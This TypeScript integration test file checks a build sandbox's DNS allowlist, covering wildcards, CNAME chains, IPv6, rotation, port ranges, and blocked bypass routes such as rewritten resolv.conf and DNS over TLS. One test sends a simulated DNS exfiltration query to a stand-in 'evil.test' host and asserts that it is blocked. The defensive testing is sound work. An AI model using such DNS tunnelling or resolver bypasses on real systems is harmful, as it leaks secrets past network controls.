// Names in the allowlist, through buildfence's resolver. The upstream is a DNS server on loopback
// (test/integration/upstream.ts) whose query log shows what left the resolver.
import { beforeEach, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { PROBE_IMAGE, cli, fixture, verdicts } from './harness.js';

// The probe speaks neither TLS nor HTTP, so the names it connects to are opaque:// entries, which
// open their addresses as before; wire.test.ts tests the name check with real clients.
const fx = fixture({ servers: 2, upstream: true });

beforeEach(async () => {
  await fx.ready;
  fx.upstream.zone.clear();
  fx.upstream.log.length = 0;
});

const run = (grade: string, allow: string[], script: string[], extra: string[] = []) =>
  cli(
    [
      'run',
      '--network',
      fx.net.name,
      '--pull',
      'never',
      '--image',
      PROBE_IMAGE,
      '--shell',
      'sh',
      '--grade',
      grade,
      '--dns-upstream',
      fx.upstream.address,
      ...extra,
      ...allow.flatMap((a) => ['--allow', a]),
      // $ns: the resolver the build was given; lookup NAME [TYPE]: the first address of the answer.
      '--',
      [
        "ns=$(awk '/^nameserver/{print $2; exit}' /etc/resolv.conf)",
        'lookup() { probe dns "$ns" "$1" "${2:-A}" | sed -n \'s/^rcode=0 answers=\\([^,]*\\).*/\\1/p\'; }',
        ...script,
      ].join('\n'),
    ],
    fx.ws,
  );

/** `rcode=N answers=...` lines of `probe dns`, keyed by what the script echoed before each. */
function dnsResults(stdout: string): Map<string, string> {
  const map = new Map<string, string>();
  let label = '';
  for (const line of stdout.split('\n')) {
    const m = /^== (.+)$/.exec(line);
    if (m) label = m[1];
    else if (/^rcode=/.test(line) || /^dns /.test(line)) map.set(label, line.trim());
  }
  return map;
}

describe('names in the allowlist', () => {
  it('an allowed name resolves and connects on its port; an unlisted name is NXDOMAIN and never leaves the machine', async () => {
    const [s0] = fx.net.servers;
    fx.upstream.zone.set('api.test', { A: [s0.ipv4] });
    fx.upstream.zone.set('other.test', { A: [s0.ipv4] });
    const exfil = `${'a1b2c3d4e5'.repeat(5)}.secret.evil.test`;
    const r = await run(
      'release',
      ['opaque://api.test:8080'],
      [
        'echo "== api"; probe dns "$ns" api.test',
        'a=$(lookup api.test); probe tcp "$a" 8080; probe tcp "$a" 9090',
        'echo "== other"; probe dns "$ns" other.test',
        `echo "== exfil"; probe dns "$ns" ${exfil}`,
      ],
    );
    const dns = dnsResults(r.stdout);
    assert.equal(dns.get('api'), `rcode=0 answers=${s0.ipv4}`, r.stdout + r.stderr);
    assert.equal(dns.get('other'), 'rcode=3 answers=');
    assert.equal(dns.get('exfil'), 'rcode=3 answers=');
    const v = verdicts(r.stdout);
    assert.equal(v.get(`tcp ${s0.ipv4}:8080`), 'ok');
    assert.equal(v.get(`tcp ${s0.ipv4}:9090`), 'refused');
    assert.ok(fx.upstream.asked('api.test'));
    assert.ok(!fx.upstream.asked('other.test'), 'an unlisted name reached the upstream');
    assert.ok(!fx.upstream.log.some((q) => q.name.includes('evil.test')), 'the exfiltration name reached the upstream');
  });

  it('*.name matches subdomains at any depth, never the apex', async () => {
    const [s0] = fx.net.servers;
    for (const n of ['wild.test', 'a.wild.test', 'b.a.wild.test']) fx.upstream.zone.set(n, { A: [s0.ipv4] });
    const r = await run(
      'release',
      ['*.wild.test'],
      [
        'echo "== apex"; probe dns "$ns" wild.test',
        'echo "== sub"; probe dns "$ns" a.wild.test',
        'echo "== subsub"; probe dns "$ns" b.a.wild.test',
      ],
    );
    const dns = dnsResults(r.stdout);
    assert.equal(dns.get('apex'), 'rcode=3 answers=');
    assert.equal(dns.get('sub'), `rcode=0 answers=${s0.ipv4}`);
    assert.equal(dns.get('subsub'), `rcode=0 answers=${s0.ipv4}`);
    assert.ok(!fx.upstream.asked('wild.test'));
  });

  it('a CNAME chain of three counts for the name asked; round-robin names open every address', async () => {
    const [s0, s1] = fx.net.servers;
    fx.upstream.zone.set('start.test', { CNAME: 'middle.cdn.test' });
    fx.upstream.zone.set('middle.cdn.test', { CNAME: 'edge.cdn.test' });
    fx.upstream.zone.set('edge.cdn.test', { A: [s1.ipv4] });
    fx.upstream.zone.set('rr.test', { A: [s0.ipv4, s1.ipv4] });
    const r = await run(
      'release',
      ['opaque://start.test:8080', 'opaque://rr.test:9090'],
      [
        'probe tcp $(lookup start.test) 8080',
        'lookup rr.test >/dev/null',
        `probe tcp ${s0.ipv4} 9090`,
        `probe tcp ${s1.ipv4} 9090`,
        `probe tcp ${s0.ipv4} 8080`,
      ],
    );
    const v = verdicts(r.stdout);
    assert.equal(v.get(`tcp ${s1.ipv4}:8080`), 'ok', r.stdout + r.stderr);
    assert.equal(v.get(`tcp ${s0.ipv4}:9090`), 'ok');
    assert.equal(v.get(`tcp ${s1.ipv4}:9090`), 'ok');
    assert.equal(v.get(`tcp ${s0.ipv4}:8080`), 'refused');
  });

  it("an allowed name's address is refused until the name is asked, and AAAA answers are fenced like A", async () => {
    const [s0] = fx.net.servers;
    fx.upstream.zone.set('api.test', { A: [s0.ipv4], AAAA: [s0.ipv6] });
    const r = await run(
      'release',
      ['opaque://api.test:8080'],
      [
        `probe tcp ${s0.ipv4} 8080`,
        `probe tcp ${s0.ipv6} 8080`,
        'lookup api.test AAAA >/dev/null',
        `probe tcp ${s0.ipv6} 8080`,
        `probe tcp ${s0.ipv6} 9090`,
      ],
    );
    const lines = r.stdout
      .split('\n')
      .filter((l) => /^tcp /.test(l))
      .map((l) => l.split(' ').slice(1, 3).join(' '));
    assert.deepEqual(
      lines,
      [`${s0.ipv4}:8080 refused`, `[${s0.ipv6}]:8080 refused`, `[${s0.ipv6}]:8080 ok`, `[${s0.ipv6}]:9090 refused`],
      r.stdout + r.stderr,
    );
  });

  it('every DNS path ends at buildfence or is refused: TCP, another address, 127.0.0.11, IPv6, rewritten resolv.conf, DoT', async () => {
    const [s0, s1] = fx.net.servers;
    fx.upstream.zone.set('api.test', { A: [s0.ipv4] });
    fx.upstream.zone.set('leak.test', { A: [s0.ipv4] });
    const r = await run(
      'dev',
      [],
      [
        'echo "== tcp"; probe dns "$ns" api.test A tcp',
        `echo "== other-address"; probe dns ${s1.ipv4} api.test`,
        `echo "== other-address-tcp"; probe dns ${s1.ipv4} api.test A tcp`,
        'echo "== embedded"; probe dns 127.0.0.11 leak.test',
        'echo "== embedded-tcp"; probe dns 127.0.0.11 leak.test A tcp',
        `echo "== ipv6"; probe dns ${s1.ipv6} leak.test`,
        `echo "nameserver ${s1.ipv4}" > /etc/resolv.conf`,
        `echo "== rewritten"; probe dns $(awk '/^nameserver/{print $2; exit}' /etc/resolv.conf) api.test`,
        `probe tcp ${s1.ipv4} 853`,
        `probe tcp ${s1.ipv4} 8080`,
      ],
    );
    const dns = dnsResults(r.stdout);
    // Answered by buildfence (the upstream's answer), wherever the build sent it.
    for (const label of ['tcp', 'other-address', 'other-address-tcp', 'rewritten']) {
      assert.equal(dns.get(label), `rcode=0 answers=${s0.ipv4}`, `${label}: ${r.stdout}`);
    }
    // Refused: the embedded resolver and DNS over IPv6 are unreachable even in audit mode.
    for (const label of ['embedded', 'embedded-tcp', 'ipv6']) {
      assert.doesNotMatch(dns.get(label) ?? '', /^rcode=/, `${label} got an answer: ${r.stdout}`);
    }
    assert.ok(!fx.upstream.asked('leak.test'), 'a query that should have been refused reached the upstream');
    const v = verdicts(r.stdout);
    assert.equal(v.get(`tcp ${s1.ipv4}:853`), 'refused', 'DNS over TLS is refused in audit mode');
    assert.equal(v.get(`tcp ${s1.ipv4}:8080`), 'ok', 'audit mode lets other traffic through');
  });

  it('audit: every name is resolved and forwarded, whatever the allowlist', async () => {
    fx.upstream.zone.set('anything.test', { A: [fx.net.servers[0].ipv4] });
    const r = await run('dev', [], ['echo "== any"; probe dns "$ns" anything.test']);
    assert.equal(dnsResults(r.stdout).get('any'), `rcode=0 answers=${fx.net.servers[0].ipv4}`);
    assert.ok(fx.upstream.asked('anything.test'));
  });

  it('rotation: the new address works after the name is asked again, the old one closes for new connections', async () => {
    const [s0, s1] = fx.net.servers;
    fx.upstream.zone.set('rot.test', { A: [s0.ipv4], ttl: 1 });
    // The upstream moves the name as soon as it has answered once.
    const moved = new Promise<void>((resolve) => {
      const timer = setInterval(() => {
        if (fx.upstream.asked('rot.test')) {
          fx.upstream.zone.set('rot.test', { A: [s1.ipv4], ttl: 1 });
          clearInterval(timer);
          resolve();
        }
      }, 20);
    });
    const r = await run(
      'release',
      ['opaque://rot.test:8080'],
      [
        'echo "first=$(lookup rot.test)"',
        `probe tcp ${s0.ipv4} 8080`,
        'sleep 4',
        `probe tcp ${s0.ipv4} 8080`,
        'echo "second=$(lookup rot.test)"',
        `probe tcp ${s1.ipv4} 8080`,
        `probe tcp ${s0.ipv4} 8080`,
      ],
      ['--dns-ttl-min', '1', '--dns-ttl-max', '2'],
    );
    await moved;
    assert.match(r.stdout, new RegExp(`^first=${s0.ipv4.replaceAll('.', '\\.')}$`, 'm'), r.stdout + r.stderr);
    assert.match(r.stdout, new RegExp(`^second=${s1.ipv4.replaceAll('.', '\\.')}$`, 'm'));
    const lines = r.stdout
      .split('\n')
      .filter((l) => /^tcp /.test(l))
      .map((l) => l.split(' ').slice(1, 3).join(' '));
    assert.deepEqual(lines, [`${s0.ipv4}:8080 ok`, `${s0.ipv4}:8080 refused`, `${s1.ipv4}:8080 ok`, `${s0.ipv4}:8080 refused`]);
  });

  it('a port range opens every port in it and no other: for a name, and for an address', async () => {
    // Each range is one set of addresses, matched with the range (not one element per port).
    const [s0, s1] = fx.net.servers;
    fx.upstream.zone.set('ranged.test', { A: [s0.ipv4] });
    const r = await run(
      'release',
      ['opaque://ranged.test:9000-9999', `udp://${s1.ipv4}:8000-8999`],
      [
        'a=$(lookup ranged.test); probe tcp "$a" 9090; probe tcp "$a" 8080',
        `probe udp ${s1.ipv4} 8080; probe udp ${s1.ipv4} 9090; probe tcp ${s1.ipv4} 8080`,
        'true',
      ],
    );
    assert.equal(r.code, 0, r.stderr);
    const v = verdicts(r.stdout);
    assert.equal(v.get(`tcp ${s0.ipv4}:9090`), 'ok', r.stdout + r.stderr);
    assert.equal(v.get(`tcp ${s0.ipv4}:8080`), 'refused');
    assert.equal(v.get(`udp ${s1.ipv4}:8080`), 'ok');
    assert.equal(v.get(`udp ${s1.ipv4}:9090`), 'refused');
    assert.equal(v.get(`tcp ${s1.ipv4}:8080`), 'refused');
  });
});
